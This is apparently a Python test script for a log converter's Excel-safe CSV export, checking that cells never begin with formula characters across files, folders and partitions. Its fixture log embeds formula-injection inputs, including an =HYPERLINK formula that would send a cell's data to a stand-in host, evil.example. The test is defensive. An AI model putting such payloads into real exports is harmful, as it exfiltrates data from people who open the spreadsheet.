#!/usr/bin/env python3
"""csv-excel: no cell is a formula, and with the apostrophe taken away each is that of csv, in files, folders and partitions; what
reads exports reads these. Where cells are cut is writers_test's."""
import sys

sys.dont_write_bytecode = True
import csv
import io
import os
import re

import tap

MARK = b"\xef\xbb\xbf"
LOG = b"""05:12:17.017: --- Mon Nov 23 05:12:17 2026 ---\r
05:12:17.018: Connect to '@mail', timeout 30.\r
05:12:18.020: >> +OK POP3 ready <123.456@mbox.example.net><cr><lf>\r
05:12:18.020: << USER =HYPERLINK("http://evil.example/?"&A2,"open")<cr><lf>\r
05:12:18.021: >> +OK<cr><lf>\r
05:12:18.021: << PASS pwB<cr><lf>\r
05:12:18.030: >> -ERR =1+1<cr><lf>\r
05:12:18.031: << 'x' \xfb\xe9<cr><lf>\r
05:12:18.031: >> -ERR 'What?<cr><lf>\r
05:12:18.031: << \x01=1+1<cr><lf>\r
05:12:18.031: >> -ERR \x7fWhat?<cr><lf>\r
05:12:18.031: << QUIT<cr><lf>\r
05:12:18.031: >> +OK Logging out.<cr><lf>\r
05:12:18.032: --- Connection closed normally at Mon Nov 23 05:12:18 2026. ---\r
05:12:18.032: \r
"""


def rows(data):
    """Cells as bytes have them: None is nothing at all."""
    return list(csv.reader(io.StringIO(tap.mark_missing(data.decode()), newline=""), strict=True))


def plain(cell):
    return cell[1:] if cell.startswith("'") else cell


def differences(excel, exact):
    if not excel.startswith(MARK):
        yield "it has no byte order mark"
    found, want = rows(excel.removeprefix(MARK)), rows(exact)
    yield from (cell for row in found for cell in row if re.match("[-=+@\0-\x1f\x7f]", cell))
    if [[plain(cell) for cell in row] for row in found] != want:
        yield from (f"{one} is not {other}" for one, other in zip(found, want) if list(map(plain, one)) != other)
        yield f"{len(found)} rows of {len(want)}"


def export(form, *words):
    return tap.run("convert", "-q", "-f", form, *words).stdout


os.chdir(tap.folder())
os.makedirs("@logs")
tap.write("@logs/TCP0001.MD", LOG)
for kind in tap.KINDS:
    for words in (("-k", kind, "@logs"), ("-k", kind, "--timezone", "+01:00", tap.CORPUS)):
        tap.check(f"{' '.join(words[:-1])}: apart from apostrophes it is csv", list(differences(export("csv-excel", *words), export("csv", *words))))
    tap.write(f"{kind}.csv", export("csv-excel", "-k", kind, "--timezone", "+01:00", "@logs", tap.CORPUS))
    done = tap.run("validate", f"{kind}.csv")
    tap.check(f"{kind}: validate takes it", [done.stderr] if done.returncode else [])

want = export("csv-excel", "-k", "line", "@logs")
got = tap.run("cat", "--lines", "3", tap.write("line.csv", want)).stdout
tap.check("cat finds a row", list(differences(got, b"\r\n".join(export("csv", "-k", "line", "@logs").split(b"\r\n")[i] for i in (0, 3)) + b"\r\n")))

# a partition finds the rows of a log by its name, which is guarded in them
parts = ("convert", "-q", "-f", "csv-excel", "-k", "line", "--verify", "--partition", "server", "-o", "parts/", "@logs")
first = tap.run(*parts)
tap.write("@logs/TCP0001.MD", LOG + LOG.replace(b"05:12", b"06:12"))
second = tap.run(*parts)
name = os.listdir("parts")
files = [tap.read(f"parts/{name}") for name in os.listdir("parts") if name.endswith(".csv")]
tap.check("a log that has grown is in its partition once", [first, second, name] if files != [export("csv-excel", "-k", "line", "@logs")] else [])
tap.end()
